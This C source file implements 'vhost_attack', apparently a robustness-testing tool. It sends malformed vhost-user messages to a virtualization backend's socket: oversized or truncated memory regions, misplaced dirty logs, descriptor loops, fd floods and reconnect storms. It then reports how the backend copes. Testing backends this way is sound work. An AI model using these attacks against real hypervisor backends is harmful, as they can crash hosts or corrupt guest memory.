/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * vhost_attack: a hostile vhost-user front end. It plays QEMU's part against a backend's
 * unix socket (or, with --listen, waits for a backend in client mode), performs a
 * QEMU-like handshake, delivers one named attack, watches the connection for --hold
 * seconds and prints one summary line on stdout. Plain libc: the message and ring layouts
 * (vu_front.h) are written from the vhost-user and virtio specifications, not taken from a
 * backend, so the tool builds and runs without DPDK. This file holds the handshake steps
 * and the attacks; vu_front.c the connection, messages and guest memory they use.
 */
#include <errno.h>
#include <inttypes.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "vu_front.h"

/*
 * The log attacks place guest memory just under 2 GiB so its dirty-log bits fall at byte
 * 65408..65535 of the log: far past a 4 KiB file, and in the last page of a 64 KiB log,
 * which is exactly what a backend that forgets the log's mmap_offset gets wrong.
 */
#define LOG_GPA_BASE (0x80000000ULL - GUEST_MEM_SIZE)

/* ---- handshake pieces, in QEMU's order */

/* A fatal transport error (closed, silent) ends the attack; an error ack does not. */
static bool gone(int ret)
{
	return ret < 0 && ret != -EREMOTEIO;
}

/*
 * SET_OWNER, feature and protocol-feature negotiation. We ask for REPLY_ACK (to see
 * refusals where they happen) plus want_proto, and VERSION_1 plus want_features, each
 * only if offered; an attack that must send an unoffered bit does so itself.
 */
static int hs_negotiate(struct session *s, uint64_t want_features, uint64_t want_proto)
{
	uint64_t proto;
	int ret;

	s->features = s->proto = s->proto_acked = 0;
	ret = vu_call(s, VU_SET_OWNER, NULL, NULL, 0, NULL, 0, NULL, 0);
	if (gone(ret))
		return ret;
	ret = vu_call(s, VU_GET_FEATURES, NULL, NULL, 0, NULL, 0, &s->features,
		      sizeof(s->features));
	if (ret < 0)
		return ret;
	s->acked = (BIT(F_VERSION_1) | BIT(F_PROTOCOL_FEATURES) | want_features) & s->features;
	if (s->features & BIT(F_PROTOCOL_FEATURES)) {
		ret = vu_call(s, VU_GET_PROTOCOL_FEATURES, NULL, NULL, 0, NULL, 0, &s->proto,
			      sizeof(s->proto));
		if (ret < 0)
			return ret;
		proto = (BIT(PF_REPLY_ACK) | want_proto) & s->proto;
		ret = vu_u64(s, VU_SET_PROTOCOL_FEATURES, NULL, proto);
		if (gone(ret))
			return ret;
		s->proto_acked = proto;
		s->reply_ack = (proto & BIT(PF_REPLY_ACK)) != 0;
	}
	note("features offered %#" PRIx64 " acked %#" PRIx64 ", protocol features offered %#" PRIx64
	     "%s",
	     s->features, s->acked, s->proto, s->reply_ack ? ", REPLY_ACK on" : "");
	return vu_u64(s, VU_SET_FEATURES, NULL, s->acked);
}

/* One region at g's guest physical base, declared region_size long (normally g->size). */
static int hs_mem_table(struct session *s, struct guest *g, uint64_t region_size)
{
	struct vu_mem_table mt = {
		.nregions = 1,
		.regions[0] = {.guest_phys_addr = g->gpa_base,
			       .memory_size = region_size,
			       .userspace_addr = uva(g->mem),
			       .mmap_offset = 0},
	};
	char detail[48];

	snprintf(detail, sizeof(detail), "%" PRIu64 " KiB", region_size >> 10);
	/* QEMU sends only the used regions: header fields plus nregions entries. */
	return vu_call(s, VU_SET_MEM_TABLE, detail, &mt,
		       offsetof(struct vu_mem_table, regions) + sizeof(mt.regions[0]), &g->memfd, 1,
		       NULL, 0);
}

static int hs_vring_addr(struct session *s, struct guest *g, int q, bool log)
{
	struct vq *vq = &g->vqs[q];
	struct vu_vring_addr a = {
		.index = (uint32_t)q,
		.flags = log ? 1 : 0,
		.desc_user_addr = uva(vq->desc),
		.used_user_addr = uva(vq->used),
		.avail_user_addr = uva(vq->avail),
		/* QEMU always passes the used ring's guest physical address here */
		.log_guest_addr = gpa(g, RING_AREA(q) + 0x2000),
	};
	char detail[32];

	snprintf(detail, sizeof(detail), "q%d%s", q, log ? ",log" : "");
	return vu_call(s, VU_SET_VRING_ADDR, detail, &a, sizeof(a), NULL, 0, NULL, 0);
}

static int hs_vrings(struct session *s, struct guest *g, int nq)
{
	int ret = 0;

	for (int q = 0; q < nq && ret == 0; q++) {
		ret = vu_state(s, VU_SET_VRING_NUM, (uint32_t)q, RING_SIZE);
		if (ret == 0)
			ret = vu_state(s, VU_SET_VRING_BASE, (uint32_t)q, 0);
		if (ret == 0)
			ret = hs_vring_addr(s, g, q, false);
		if (ret == 0)
			ret = vu_vring_fd(s, VU_SET_VRING_KICK, (uint32_t)q, g->vqs[q].kickfd);
		if (ret == 0)
			ret = vu_vring_fd(s, VU_SET_VRING_CALL, (uint32_t)q, g->vqs[q].callfd);
	}
	/* With protocol features negotiated rings start disabled (spec: "Ring states"). */
	for (int q = 0; q < nq && ret == 0 && (s->acked & BIT(F_PROTOCOL_FEATURES)); q++)
		ret = vu_state(s, VU_SET_VRING_ENABLE, (uint32_t)q, 1);
	return ret;
}

/* The whole well-behaved handshake; a refusal is recorded but does not stop us. */
static int handshake(struct session *s, struct guest *g, uint64_t want_features,
		     uint64_t want_proto)
{
	int ret = hs_negotiate(s, want_features, want_proto);

	if (ret == 0 || ret == -EREMOTEIO)
		ret = hs_mem_table(s, g, g->size);
	if (ret == 0 || ret == -EREMOTEIO)
		ret = hs_vrings(s, g, NQUEUES);
	return ret == -EREMOTEIO ? 0 : ret;
}

/*
 * Count the dirty bits the backend set inside the declared log window and outside it.
 * Bits outside, or none inside after traffic was processed, mean the backend placed the
 * log wrongly (e.g. applied mmap_offset twice or not at all): a migration would miss
 * dirty pages, and the stray writes went into some other memory of the backend.
 */
static void dirty_log_report(const struct dirty_log *l)
{
	uint64_t in = 0, out = 0, end = l->offset + l->size;

	if (!l->map)
		return;
	for (uint64_t i = 0; i < l->file_size; i++) {
		uint64_t bits = (uint64_t)__builtin_popcount(l->map[i]);

		if (i >= l->offset && i < end)
			in += bits;
		else
			out += bits;
	}
	note("dirty log: %" PRIu64 " bits set inside the declared window, %" PRIu64
	     " outside it (file %" PRIu64 " bytes, window %" PRIu64 "+%" PRIu64 ")",
	     in, out, l->file_size, l->offset, l->size);
}

/* ---- attacks */

static int atk_ok(struct session *s)
{
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, 0)))
		return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "16 TX packets + kick");
	s->delivered = true;
	return 0;
}

/* The region claims twice the file; a TX descriptor points into the part with no file. */
static int atk_mem_oversize(struct session *s)
{
	struct vq *vq = &s->g.vqs[Q_TX];
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	ret = hs_mem_table(s, &s->g, 2 * s->g.size);
	s->delivered = true;
	if (ret < 0 || gone(hs_vrings(s, &s->g, NQUEUES)))
		return 0;
	vq->desc[0] =
		(struct vring_desc){.addr = gpa(&s->g, s->g.size + (1 << 20)), .len = PKT_SIZE};
	vq_publish(&s->g, Q_TX, 0);
	vq_kick(&s->g, Q_TX);
	step_set(s, "TX descriptor beyond the file + kick");
	return 0;
}

/* Shrink the file under live rings: every later backend access to it is past EOF. */
static int atk_mem_truncate(struct session *s)
{
	int ret;

	ret = guest_init(&s->g, 0, false);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, 0)))
		return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "traffic before truncation");
	if (!sess_watch(s, 500))
		return 0;
	guest_report(&s->g);
	/* Our own view of the file would SIGBUS from now on: only kicks are left to us. */
	if (ftruncate(s->g.memfd, 0) < 0)
		return -errno;
	s->g.gone = true;
	s->delivered = true;
	step_set(s, "ftruncate(memfd, 0)");
	if (!sess_watch(s, 200))
		return 0;
	vq_kick(&s->g, Q_RX);
	vq_kick(&s->g, Q_TX);
	step_set(s, "kick after ftruncate(memfd, 0)");
	return 0;
}

/*
 * The QEMU migration sequence: SET_LOG_BASE, SET_FEATURES + LOG_ALL, ring addresses
 * re-sent with the log flag, then traffic so the backend dirties pages and logs them.
 */
static int log_attack(struct session *s, uint64_t file_size, uint64_t mmap_size,
		      uint64_t mmap_offset)
{
	struct vu_log log = {.mmap_size = mmap_size, .mmap_offset = mmap_offset};
	uint8_t *map;
	int ret, fd;

	ret = guest_init(&s->g, LOG_GPA_BASE, true);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, BIT(PF_LOG_SHMFD))))
		return 0;
	if (!(s->proto & BIT(PF_LOG_SHMFD)))
		note("backend does not offer LOG_SHMFD: sending SET_LOG_BASE anyway");
	if (!(s->features & BIT(F_LOG_ALL)))
		note("backend does not offer LOG_ALL: setting it anyway");
	fd = memfd_sized("vhost_attack-log", file_size, false);
	if (fd < 0)
		return fd;
	/* Our own read-only view, to check afterwards where the backend set dirty bits. */
	map = mmap(NULL, file_size, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED) {
		ret = -errno;
		close(fd);
		return ret;
	}
	s->log = (struct dirty_log){map, file_size, mmap_offset, mmap_size};
	step_set(s, "SET_LOG_BASE(file %" PRIu64 " KiB, size %" PRIu64 " KiB, offset %" PRIu64 ")",
		 file_size >> 10, mmap_size >> 10, mmap_offset);
	ret = vu_send_raw(s, VU_SET_LOG_BASE, 0, sizeof(log), &log, sizeof(log), &fd, 1);
	close(fd);
	s->delivered = true;
	if (ret < 0)
		return 0;
	/*
	 * With LOG_SHMFD the backend must answer SET_LOG_BASE (empty payload), as QEMU
	 * waits for it; without, a reply is not defined: just watch a moment.
	 */
	if (s->proto_acked & BIT(PF_LOG_SHMFD))
		ret = vu_recv_reply(s, VU_SET_LOG_BASE, NULL, 0, NULL, NULL, NULL,
				    REPLY_TIMEOUT_MS);
	else
		ret = sess_watch(s, 200) ? 0 : -ECONNRESET;
	if (gone(ret))
		return 0;
	s->acked |= BIT(F_LOG_ALL);
	if (gone(vu_u64(s, VU_SET_FEATURES, "+LOG_ALL", s->acked)))
		return 0;
	for (int q = 0; q < NQUEUES; q++)
		if (gone(hs_vring_addr(s, &s->g, q, true)))
			return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "traffic with dirty logging");
	return 0;
}

static int atk_log_offset(struct session *s)
{
	/* 64 KiB of log covers 2 GiB of guest memory; the file holds offset + size. */
	return log_attack(s, (64 << 10) + 4096, 64 << 10, 4096);
}

static int atk_log_oversize(struct session *s)
{
	return log_attack(s, 4096, 1 << 20, 0);
}

/* 4 KiB of inflight area that claims 8 queues of 1024 descriptors (~128 KiB). */
static int atk_inflight_small(struct session *s)
{
	struct vu_inflight inf = {.mmap_size = 4096, .num_queues = 8, .queue_size = 1024};
	int ret, fd;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(hs_negotiate(s, 0, BIT(PF_INFLIGHT_SHMFD))))
		return 0;
	if (!(s->proto & BIT(PF_INFLIGHT_SHMFD)))
		note("backend does not offer INFLIGHT_SHMFD: sending SET_INFLIGHT_FD anyway");
	fd = memfd_sized("vhost_attack-inflight", 4096, false);
	if (fd < 0)
		return fd;
	/* Where QEMU's vhost-user-blk sends it: after negotiation, before the rings. */
	ret = vu_call(s, VU_SET_INFLIGHT_FD, "4 KiB, 8 queues x 1024", &inf, sizeof(inf), &fd, 1,
		      NULL, 0);
	close(fd);
	s->delivered = true;
	if (gone(ret))
		return 0;
	ret = hs_mem_table(s, &s->g, s->g.size);
	if (!gone(ret))
		ret = hs_vrings(s, &s->g, NQUEUES);
	if (!gone(ret)) {
		traffic(&s->g, 128, 16);
		step_set(s, "traffic after SET_INFLIGHT_FD");
	}
	return 0;
}

/* Ask the backend to create and zero an inflight area for 512 queues of 65535. */
static int atk_inflight_huge(struct session *s)
{
	struct vu_inflight inf = {.num_queues = 512, .queue_size = 65535};
	struct vu_inflight back = {0};
	int fds[VU_MAX_REGIONS], nfds = 0, ret;
	uint32_t size;

	if (gone(hs_negotiate(s, 0, BIT(PF_INFLIGHT_SHMFD))))
		return 0;
	step_set(s, "GET_INFLIGHT_FD(512 queues x 65535)");
	ret = vu_send_raw(s, VU_GET_INFLIGHT_FD, 0, sizeof(inf), &inf, sizeof(inf), NULL, 0);
	s->delivered = true;
	if (ret < 0)
		return 0;
	/* A backend that complies allocates and zeroes it first: allow it more time. */
	ret = vu_recv_reply(s, VU_GET_INFLIGHT_FD, &back, sizeof(back), &size, fds, &nfds,
			    5 * REPLY_TIMEOUT_MS);
	if (ret < 0)
		return 0;
	for (int i = 0; i < nfds; i++) {
		struct stat st;

		if (fstat(fds[i], &st) == 0)
			note("backend handed back an inflight fd of %lld MiB (mmap_size %" PRIu64
			     " MiB)",
			     (long long)st.st_size >> 20, back.mmap_size >> 20);
		close(fds[i]);
	}
	if (!nfds)
		note("reply without fd, mmap_size %" PRIu64, back.mmap_size);
	return 0;
}

/*
 * Announce 256 payload bytes and withhold them. First nothing at all for half the hold (a
 * backend reading the payload with one blocking read() hangs here), then 8 bytes and
 * silence (a backend looping until the payload is complete hangs here).
 */
static int atk_stall_payload(struct session *s)
{
	uint8_t part[8] = {0};
	int ret;

	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	step_set(s, "SET_VRING_ADDR header announcing 256 bytes, none sent");
	ret = vu_send_raw(s, VU_SET_VRING_ADDR, 0, 256, NULL, 0, NULL, 0);
	s->delivered = true;
	if (ret < 0 || !sess_watch(s, s->hold * 1000 / 2))
		return 0;
	step_set(s, "SET_VRING_ADDR header announcing 256 bytes, 8 sent");
	if (sock_send(s->fd, part, sizeof(part), NULL, 0) < 0)
		sess_closed(s);
	s->hold -= s->hold / 2;
	return 0;
}

/* ---- bad-desc: each malformed chain on a fresh device so one cannot hide another */

/*
 * Each bd_* writes one malformed TX chain with head descriptor h and makes it available.
 * A backend must drop such a chain (or the ring) without reading outside guest memory.
 */

static void bd_loop(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA),
						   .len = PKT_SIZE,
						   .flags = VRING_DESC_F_NEXT,
						   .next = h};
	vq_publish(g, Q_TX, h);
}

static void bd_outside(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = 0x7e0000000000ULL, .len = PKT_SIZE};
	vq_publish(g, Q_TX, h);
}

static void bd_zero_len(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA), .len = 0};
	vq_publish(g, Q_TX, h);
}

static void bd_cross_end(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, g->size - 16), .len = 4096};
	vq_publish(g, Q_TX, h);
}

/*
 * A chain longer than the ring: 1024 entries through an indirect table when that was
 * negotiated, else every descriptor of the ring with the last one pointing back to h.
 */
static void bd_long_chain(struct guest *g, uint16_t h, bool indirect)
{
	struct vring_desc *d = g->vqs[Q_TX].desc;
	const int n = indirect ? 4 * RING_SIZE : RING_SIZE;

	if (indirect)
		d = (struct vring_desc *)(g->mem + INDIRECT_AREA);
	for (int i = 0; i < n; i++) {
		uint16_t id = indirect ? (uint16_t)i : (uint16_t)((h + i) % RING_SIZE);

		d[id] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA),
					    .len = 16,
					    .flags = VRING_DESC_F_NEXT,
					    .next = indirect ? (uint16_t)(i + 1)
							     : (uint16_t)((id + 1) % RING_SIZE)};
	}
	if (indirect) {
		d[n - 1].flags = 0;
		g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, INDIRECT_AREA),
							   .len = (uint32_t)(n * sizeof(*d)),
							   .flags = VRING_DESC_F_INDIRECT};
	}
	vq_publish(g, Q_TX, h);
}

static void bd_head_oob(struct guest *g, uint16_t h, bool indirect)
{
	(void)h, (void)indirect;
	vq_publish(g, Q_TX, RING_SIZE + 44);
}

static const struct bd_case {
	const char *name;
	void (*post)(struct guest *g, uint16_t head, bool indirect);
} bd_cases[] = {
	{"descriptor loop", bd_loop},
	{"address outside every region", bd_outside},
	{"zero-length descriptor", bd_zero_len},
	{"descriptor crossing the region end", bd_cross_end},
	{"chain longer than the ring", bd_long_chain},
	{"avail entry >= ring size", bd_head_oob},
};

static int atk_bad_desc(struct session *s)
{
	for (size_t c = 0; c < sizeof(bd_cases) / sizeof(bd_cases[0]); c++) {
		const struct bd_case *bc = &bd_cases[c];
		struct guest *g = &s->g;
		uint16_t before;
		bool indirect;
		int ret;

		if (c > 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
			return 0;
		ret = guest_init(g, 0, true);
		if (ret < 0)
			return ret;
		if (gone(handshake(s, g, BIT(F_INDIRECT_DESC), 0)))
			continue;
		indirect = (s->acked & BIT(F_INDIRECT_DESC)) != 0;
		/* One good packet first: proves the ring works before the bad chain. */
		traffic(g, 32, 1);
		if (!sess_watch(s, 200))
			continue;
		before = vq_used_idx(g, Q_TX);
		bc->post(g, g->vqs[Q_TX].avail_idx % RING_SIZE, indirect);
		vq_kick(g, Q_TX);
		s->delivered = true;
		step_set(s, "%s%s + kick", bc->name,
			 bc->post == bd_long_chain && indirect ? " (indirect)" : "");
		if (!sess_watch(s, 300))
			continue;
		/* A good packet after the bad one: does the ring still move? */
		tx_post(g, 1);
		vq_kick(g, Q_TX);
		if (!sess_watch(s, 300))
			continue;
		note("case '%s': TX used idx %u -> %u of %u posted (%s)", bc->name, before,
		     vq_used_idx(g, Q_TX), g->vqs[Q_TX].avail_idx,
		     vq_used_idx(g, Q_TX) == g->vqs[Q_TX].avail_idx ? "ring still moves"
								    : "ring stalled");
	}
	return 0;
}

/* A header claiming 1 MiB of payload, and the whole MiB after it. */
static int atk_oversize_msg(struct session *s)
{
	const size_t len = 1 << 20;
	uint8_t *junk;
	int ret;

	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	junk = calloc(1, len);
	if (!junk)
		return -ENOMEM;
	step_set(s, "SET_VRING_ADDR with a 1 MiB payload");
	ret = vu_send_raw(s, VU_SET_VRING_ADDR, 0, (uint32_t)len, junk, len, NULL, 0);
	free(junk);
	s->delivered = true;
	if (ret == 0)
		sess_watch(s, 300);
	return 0;
}

/*
 * Requests that take no fds, each carrying 8 (the vhost-user maximum) or 253 (the
 * kernel's maximum) duplicates of one eventfd, 100 times. A backend that drops the
 * connection for it is reconnected to, so that leaks of kept descriptors add up.
 */
static int atk_fd_flood(struct session *s)
{
	int fds[SCM_MAX_FDS], efd, closes = 0, replies = 0;

	efd = eventfd(0, EFD_CLOEXEC);
	if (efd < 0)
		return -errno;
	for (int i = 0; i < SCM_MAX_FDS; i++)
		fds[i] = efd;
	for (int i = 0; i < 100; i++) {
		uint32_t req = i % 4 < 2 ? VU_GET_FEATURES : VU_GET_PROTOCOL_FEATURES;
		int nfds = i % 2 ? SCM_MAX_FDS : VU_MAX_REGIONS;
		uint64_t v;
		char detail[32];

		if (s->fd < 0) {
			closes++;
			if (sess_reconnect(s, RECONNECT_GAP_MS) < 0)
				break;
		}
		snprintf(detail, sizeof(detail), "%d fds, #%d", nfds, i + 1);
		s->delivered = true;
		if (vu_call(s, req, detail, NULL, 0, fds, nfds, &v, sizeof(v)) == 0)
			replies++;
	}
	close(efd);
	if (s->fd < 0)
		closes++;
	note("100 messages with fds: %d answered, connection dropped %d times", replies, closes);
	return 0;
}

/* Out-of-range ring sizes and ring indexes; a dropped connection is re-established. */
static int atk_bad_vring(struct session *s)
{
	struct vu_vring_addr a = {.index = 1000};
	bool fresh = true;
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	a.desc_user_addr = uva(s->g.vqs[0].desc);
	a.used_user_addr = uva(s->g.vqs[0].used);
	a.avail_user_addr = uva(s->g.vqs[0].avail);
	for (int c = 0; c < 5; c++) {
		if (s->fd < 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
			return 0;
		/* bring a new connection to where rings get set up */
		if (fresh &&
		    (gone(hs_negotiate(s, 0, 0)) || gone(hs_mem_table(s, &s->g, s->g.size))))
			continue;
		fresh = false;
		s->delivered = true;
		switch (c) {
		case 0:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 0);
			break;
		case 1:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 3);
			break;
		case 2:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 65536);
			break;
		case 3:
			ret = vu_call(s, VU_SET_VRING_ADDR, "index 1000", &a, sizeof(a), NULL, 0,
				      NULL, 0);
			break;
		default:
			ret = vu_vring_fd(s, VU_SET_VRING_KICK, 255, s->g.vqs[0].kickfd);
			break;
		}
		if (ret == 0)
			sess_watch(s, 100);
		note("case %s: %s", s->step,
		     s->fd < 0		 ? "connection closed"
		     : ret == -EREMOTEIO ? "error reply"
		     : ret < 0		 ? strerror(-ret)
					 : "accepted");
		fresh = s->fd < 0;
	}
	/* Does a normal ring setup still work on the (possibly new) connection? */
	if (s->fd < 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
		return 0;
	ret = fresh ? handshake(s, &s->g, 0, 0) : hs_vrings(s, &s->g, NQUEUES);
	if (!gone(ret)) {
		traffic(&s->g, 32, 16);
		step_set(s, "normal rings + traffic after the bad messages");
	}
	return 0;
}

/*
 * 200 connections torn down at rotating handshake stages (the last one right after the
 * device became ready), then one full well-behaved connection to see the backend still
 * serves. Replies are read so the backend gets to process each step.
 */
static int atk_reconnect_storm(struct session *s)
{
	int ret, asked = 0, answered = 0;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	for (int i = 0; i < 200; i++) {
		int cut = i % 5;

		if (sess_reconnect(s, 0) < 0) {
			note("storm: no connection at iteration %d", i + 1);
			return 0;
		}
		s->delivered = true;
		step_set(s, "storm connection %d", i + 1);
		ret = 0;
		if (cut == 1)
			ret = vu_call(s, VU_GET_FEATURES, NULL, NULL, 0, NULL, 0, &s->features,
				      sizeof(s->features));
		if (cut >= 2)
			ret = hs_negotiate(s, 0, 0);
		/* each connects at once after the last closed: as a restarted VM does */
		asked += cut >= 1;
		answered += cut >= 1 && !gone(ret);
		if (cut >= 3 && !gone(ret))
			ret = hs_mem_table(s, &s->g, s->g.size);
		if (cut >= 4 && !gone(ret))
			hs_vrings(s, &s->g, NQUEUES);
		if (s->fd >= 0)
			close(s->fd);
		s->fd = -1;
	}
	note("storm: %d of %d connections answered", answered, asked);
	step_set(s, "200 reconnects");
	if (sess_reconnect(s, RECONNECT_GAP_MS) < 0)
		return 0;
	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (!gone(handshake(s, &s->g, 0, 0))) {
		traffic(&s->g, 32, 16);
		step_set(s, "full handshake + traffic after 200 reconnects");
	}
	return 0;
}

/* ---- main */

struct attack {
	const char *name;
	int (*fn)(struct session *s);
	int hold; /* default --hold */
};

static const struct attack attacks[] = {
	{"ok", atk_ok, 2},
	{"mem-oversize", atk_mem_oversize, 2},
	{"mem-truncate", atk_mem_truncate, 2},
	{"log-offset", atk_log_offset, 2},
	{"log-oversize", atk_log_oversize, 2},
	{"inflight-small", atk_inflight_small, 2},
	{"inflight-huge", atk_inflight_huge, 2},
	{"stall-payload", atk_stall_payload, 10},
	{"bad-desc", atk_bad_desc, 2},
	{"oversize-msg", atk_oversize_msg, 2},
	{"fd-flood", atk_fd_flood, 2},
	{"bad-vring", atk_bad_vring, 2},
	{"reconnect-storm", atk_reconnect_storm, 2},
};

static void usage(FILE *f)
{
	fprintf(f, "usage: vhost_attack [--listen] SOCKET_PATH ATTACK [--hold SECONDS]\n"
		   "attacks:");
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		fprintf(f, " %s", attacks[i].name);
	fputc('\n', f);
}

static void summary(const struct session *s)
{
	const char *d = s->delivered ? "delivered" : "not delivered";

	switch (s->outcome) {
	case OUT_CLOSED:
		printf("attack %s: %s; backend closed the connection after %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_REFUSED:
		printf("attack %s: %s; backend refused with an error reply at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_SILENT:
		printf("attack %s: %s; backend stopped answering at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_BADREPLY:
		printf("attack %s: %s; backend sent a malformed reply at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	default:
		printf("attack %s: %s; connection still open\n", s->attack, d);
		break;
	}
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct session s = {.lfd = -1, .fd = -1, .hold = -1};
	const struct attack *atk = NULL;
	const char *pos[2];
	int npos = 0, ret;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--listen") == 0) {
			s.listen = true;
		} else if (strcmp(argv[i], "--hold") == 0 && i + 1 < argc) {
			char *end;
			long v = strtol(argv[++i], &end, 10);

			if (*end || v < 0 || v > 3600) {
				usage(stderr);
				return 2;
			}
			s.hold = (int)v;
		} else if (strcmp(argv[i], "-h") == 0 || strcmp(argv[i], "--help") == 0) {
			usage(stdout);
			return 0;
		} else if (argv[i][0] != '-' && npos < 2) {
			pos[npos++] = argv[i];
		} else {
			usage(stderr);
			return 2;
		}
	}
	for (size_t i = 0; npos == 2 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(pos[1], attacks[i].name) == 0)
			atk = &attacks[i];
	if (!atk) {
		usage(stderr);
		return 2;
	}
	s.path = pos[0];
	s.attack = atk->name;
	if (s.hold < 0)
		s.hold = atk->hold;
	guest_reset(&s.g);
	/* A backend that dies mid-write must give us EPIPE, not kill us. */
	signal(SIGPIPE, SIG_IGN);

	if (s.listen && (ret = listen_open(&s)) < 0) {
		note("cannot listen on %s: %s", s.path, strerror(-ret));
		return 1;
	}
	if (sess_connect(&s, true) < 0)
		return 1;
	note("attack %s on %s", s.attack, s.path);
	ret = atk->fn(&s);
	if (ret < 0)
		note("local setup failed: %s", strerror(-ret));
	if (s.fd >= 0) {
		note("holding %d s after %s", s.hold, s.step);
		sess_watch(&s, s.hold * 1000);
	}
	guest_report(&s.g);
	dirty_log_report(&s.log);
	summary(&s);
	if (s.fd >= 0)
		close(s.fd);
	guest_fini(&s.g);
	if (s.log.map)
		munmap(s.log.map, s.log.file_size);
	if (s.lfd >= 0) {
		close(s.lfd);
		unlink(s.path);
	}
	return ret < 0 ? 1 : 0;
}
